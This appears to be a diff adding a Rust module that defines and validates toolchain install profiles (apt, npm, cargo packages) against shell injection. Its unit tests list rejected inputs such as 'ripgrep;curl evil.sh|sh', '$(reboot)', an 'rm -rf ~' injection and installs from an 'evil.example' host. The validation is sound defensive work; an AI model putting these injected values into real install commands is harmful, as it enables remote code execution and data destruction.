@@ -0,0 +1,337 @@
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::sync::OnceLock;
+use strum::Display;
+use thiserror::Error;
+
+/// Profile built from the service's `toolchain_*` settings.
+pub const DEFAULT_TOOLCHAIN_PROFILE: &str = "default";
+/// Node.js majors a profile may install; janebot-cli needs at least 18.
+pub const MIN_NODE_MAJOR: u8 = 18;
+pub const MAX_NODE_MAJOR: u8 = 30;
+
+/// What a droplet installs on top of the base image.
+///
+/// Every package, crate and version is validated token by token, because the
+/// bootstrap script splices these lists into `apt-get install`, `npm install -g`
+/// and `cargo install` command lines.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ToolchainProfile {
+    #[serde(default = "default_node_major")]
+    pub node_major: u8,
+    #[serde(default)]
+    pub install_pnpm: bool,
+    /// Empty installs the latest pnpm.
+    #[serde(default)]
+    pub pnpm_version: String,
+    #[serde(default)]
+    pub install_rust: bool,
+    #[serde(default = "default_rust_toolchain")]
+    pub rust_toolchain: String,
+    /// `name` or `name=version`.
+    #[serde(default)]
+    pub apt_packages: Vec<String>,
+    /// `name`, `@scope/name`, optionally `@version`.
+    #[serde(default)]
+    pub npm_packages: Vec<String>,
+    /// `name` or `name@version`; only installed when `install_rust` is set.
+    #[serde(default)]
+    pub cargo_crates: Vec<String>,
+}
+
+fn default_node_major() -> u8 {
+    20
+}
+
+fn default_rust_toolchain() -> String {
+    "stable".to_string()
+}
+
+/// The kinds of value a profile carries, each with its own accepted syntax.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Display)]
+#[strum(serialize_all = "snake_case")]
+pub enum ToolchainToken {
+    ProfileName,
+    AptPackage,
+    NpmPackage,
+    CargoCrate,
+    RustToolchain,
+    PnpmVersion,
+}
+
+impl ToolchainToken {
+    const ALL: [ToolchainToken; 6] = [
+        ToolchainToken::ProfileName,
+        ToolchainToken::AptPackage,
+        ToolchainToken::NpmPackage,
+        ToolchainToken::CargoCrate,
+        ToolchainToken::RustToolchain,
+        ToolchainToken::PnpmVersion,
+    ];
+
+    fn pattern(self) -> &'static str {
+        match self {
+            ToolchainToken::ProfileName => r"^[a-z0-9][a-z0-9_-]{0,63}$",
+            // Debian policy names, optionally pinned: `ripgrep`, `libssl-dev=3.0.2-0ubuntu1`.
+            ToolchainToken::AptPackage => {
+                r"^[a-z0-9][a-z0-9+.-]{1,99}(=[0-9][A-Za-z0-9.+~:-]{0,99})?$"
+            }
+            // `pkg`, `@scope/pkg`, `pkg@1.2.3`, `@scope/pkg@latest`.
+            ToolchainToken::NpmPackage => {
+                r"^(@[a-z0-9][a-z0-9._-]{0,99}/)?[a-z0-9][a-z0-9._-]{0,99}(@[A-Za-z0-9][A-Za-z0-9.+-]{0,63})?$"
+            }
+            // `ripgrep`, `cargo-binstall@1.6.4`.
+            ToolchainToken::CargoCrate => {
+                r"^[A-Za-z][A-Za-z0-9_-]{0,63}(@[0-9][A-Za-z0-9.+-]{0,63})?$"
+            }
+            // `stable`, `1.79.0`, `nightly-2024-06-01`.
+            ToolchainToken::RustToolchain => r"^[a-z0-9][a-z0-9.-]{0,63}$",
+            ToolchainToken::PnpmVersion => r"^[0-9][A-Za-z0-9.+-]{0,63}$",
+        }
+    }
+
+    pub fn is_valid(self, token: &str) -> bool {
+        static PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
+        let patterns = PATTERNS.get_or_init(|| {
+            ToolchainToken::ALL
+                .iter()
+                .map(|kind| Regex::new(kind.pattern()).expect("toolchain pattern compiles"))
+                .collect()
+        });
+        patterns[self as usize].is_match(token)
+    }
+}
+
+#[derive(Error, Debug, Clone, PartialEq, Eq)]
+pub enum ToolchainError {
+    #[error("Unknown toolchain profile: {0}")]
+    UnknownProfile(String),
+    #[error("Invalid {kind} in toolchain profile {profile}: {token:?}")]
+    InvalidToken {
+        profile: String,
+        kind: ToolchainToken,
+        token: String,
+    },
+    #[error(
+        "Toolchain profile {profile} asks for Node.js {node_major}; supported majors are {MIN_NODE_MAJOR}-{MAX_NODE_MAJOR}"
+    )]
+    UnsupportedNodeMajor { profile: String, node_major: u8 },
+}
+
+impl ToolchainProfile {
+    /// Profiles available without any configuration.
+    pub fn builtin() -> BTreeMap<String, ToolchainProfile> {
+        let minimal = ToolchainProfile {
+            node_major: default_node_major(),
+            install_pnpm: false,
+            pnpm_version: String::new(),
+            install_rust: false,
+            rust_toolchain: default_rust_toolchain(),
+            apt_packages: Vec::new(),
+            npm_packages: Vec::new(),
+            cargo_crates: Vec::new(),
+        };
+        let node_only = ToolchainProfile {
+            install_pnpm: true,
+            ..minimal.clone()
+        };
+        let full_rust = ToolchainProfile {
+            install_rust: true,
+            ..node_only.clone()
+        };
+        BTreeMap::from([
+            ("minimal".to_string(), minimal),
+            ("node-only".to_string(), node_only),
+            ("full-rust".to_string(), full_rust),
+        ])
+    }
+
+    pub fn validate(&self, name: &str) -> Result<(), ToolchainError> {
+        let check = |kind: ToolchainToken, token: &str| {
+            if kind.is_valid(token) {
+                Ok(())
+            } else {
+                Err(ToolchainError::InvalidToken {
+                    profile: name.to_string(),
+                    kind,
+                    token: token.to_string(),
+                })
+            }
+        };
+
+        check(ToolchainToken::ProfileName, name)?;
+        if !(MIN_NODE_MAJOR..=MAX_NODE_MAJOR).contains(&self.node_major) {
+            return Err(ToolchainError::UnsupportedNodeMajor {
+                profile: name.to_string(),
+                node_major: self.node_major,
+            });
+        }
+        if !self.pnpm_version.is_empty() {
+            check(ToolchainToken::PnpmVersion, &self.pnpm_version)?;
+        }
+        check(ToolchainToken::RustToolchain, &self.rust_toolchain)?;
+        for package in &self.apt_packages {
+            check(ToolchainToken::AptPackage, package)?;
+        }
+        for package in &self.npm_packages {
+            check(ToolchainToken::NpmPackage, package)?;
+        }
+        for krate in &self.cargo_crates {
+            check(ToolchainToken::CargoCrate, krate)?;
+        }
+        Ok(())
+    }
+}
+
+/// Split a whitespace-separated package list (the legacy `toolchain_*` format).
+pub fn toolchain_tokens(list: &str) -> Vec<String> {
+    list.split_whitespace().map(str::to_string).collect()
+}
+
+/// The named profiles bots can choose from, plus the one used when they don't.
+#[derive(Debug, Clone)]
+pub struct ToolchainProfiles {
+    profiles: BTreeMap<String, ToolchainProfile>,
+    default: String,
+}
+
+impl ToolchainProfiles {
+    /// Validates every profile and that `default` is one of them.
+    pub fn new(
+        default: &str,
+        profiles: BTreeMap<String, ToolchainProfile>,
+    ) -> Result<Self, ToolchainError> {
+        for (name, profile) in &profiles {
+            profile.validate(name)?;
+        }
+        if !profiles.contains_key(default) {
+            return Err(ToolchainError::UnknownProfile(default.to_string()));
+        }
+        Ok(Self {
+            profiles,
+            default: default.to_string(),
+        })
+    }
+
+    /// The built-in profiles plus `profile` as [`DEFAULT_TOOLCHAIN_PROFILE`],
+    /// not yet validated.
+    pub fn with_default(profile: ToolchainProfile) -> Self {
+        let mut profiles = ToolchainProfile::builtin();
+        profiles.insert(DEFAULT_TOOLCHAIN_PROFILE.to_string(), profile);
+        Self {
+            profiles,
+            default: DEFAULT_TOOLCHAIN_PROFILE.to_string(),
+        }
+    }
+
+    pub fn names(&self) -> impl Iterator<Item = &str> {
+        self.profiles.keys().map(String::as_str)
+    }
+
+    /// Look up `name`, or the default profile when `None`. The profile is
+    /// validated again, so an invalid one can never reach user data.
+    pub fn resolve<'a>(
+        &'a self,
+        name: Option<&'a str>,
+    ) -> Result<(&'a str, &'a ToolchainProfile), ToolchainError> {
+        let name = name.unwrap_or(&self.default);
+        let profile = self
+            .profiles
+            .get(name)
+            .ok_or_else(|| ToolchainError::UnknownProfile(name.to_string()))?;
+        profile.validate(name)?;
+        Ok((name, profile))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn tokens_are_checked_per_kind() {
+        use ToolchainToken::*;
+
+        for (kind, good) in [
+            (AptPackage, "ripgrep"),
+            (AptPackage, "libssl-dev=3.0.2-0ubuntu1.15"),
+            (AptPackage, "g++"),
+            (NpmPackage, "typescript"),
+            (NpmPackage, "@openclaw/special-cli@1.2.3"),
+            (CargoCrate, "cargo-binstall@1.6.4"),
+            (RustToolchain, "nightly-2024-06-01"),
+            (PnpmVersion, "9.12.0"),
+            (ProfileName, "node-only"),
+        ] {
+            assert!(kind.is_valid(good), "{kind} {good:?} should be valid");
+        }
+        for (kind, bad) in [
+            (AptPackage, "ripgrep;curl evil.sh|sh"),
+            (AptPackage, "-o=APT::Foo"),
+            (AptPackage, "$(reboot)"),
+            (NpmPackage, "git+https://evil.example/x.git"),
+            (NpmPackage, "../local"),
+            (CargoCrate, "--git=https://evil.example"),
+            (CargoCrate, "ripgrep\"; rm -rf ~; \""),
+            (RustToolchain, "stable --force"),
+            (PnpmVersion, "latest && id"),
+            (ProfileName, "Full Rust"),
+        ] {
+            assert!(!kind.is_valid(bad), "{kind} {bad:?} should be rejected");
+        }
+    }
+
+    #[test]
+    fn profiles_are_validated_and_resolved() {
+        let mut profiles = ToolchainProfile::builtin();
+        let (_, node_only) = ToolchainProfiles::new("minimal", profiles.clone())
+            .unwrap()
+            .resolve(Some("node-only"))
+            .map(|(name, profile)| (name.to_string(), profile.clone()))
+            .unwrap();
+        assert!(node_only.install_pnpm && !node_only.install_rust);
+
+        assert_eq!(
+            ToolchainProfiles::new("missing", profiles.clone()).unwrap_err(),
+            ToolchainError::UnknownProfile("missing".to_string())
+        );
+
+        profiles.get_mut("full-rust").unwrap().cargo_crates = vec!["x;y".to_string()];
+        assert!(matches!(
+            ToolchainProfiles::new("minimal", profiles.clone()),
+            Err(ToolchainError::InvalidToken {
+                kind: ToolchainToken::CargoCrate,
+                ..
+            })
+        ));
+
+        profiles.get_mut("full-rust").unwrap().cargo_crates.clear();
+        profiles.get_mut("full-rust").unwrap().node_major = 12;
+        assert!(matches!(
+            ToolchainProfiles::new("minimal", profiles),
+            Err(ToolchainError::UnsupportedNodeMajor { node_major: 12, .. })
+        ));
+    }
+
+    #[test]
+    fn unvalidated_default_profile_is_rejected_on_resolve() {
+        let profiles = ToolchainProfiles::with_default(ToolchainProfile {
+            apt_packages: toolchain_tokens("ripgrep $(id)"),
+            ..ToolchainProfile::builtin()["minimal"].clone()
+        });
+
+        assert!(profiles.resolve(Some("minimal")).is_ok());
+        assert!(matches!(
+            profiles.resolve(None),
+            Err(ToolchainError::InvalidToken {
+                kind: ToolchainToken::AptPackage,
+                ..
+            })
+        ));
+        assert_eq!(
+            profiles.resolve(Some("gpu")).unwrap_err(),
+            ToolchainError::UnknownProfile("gpu".to_string())
+        );
+    }
+}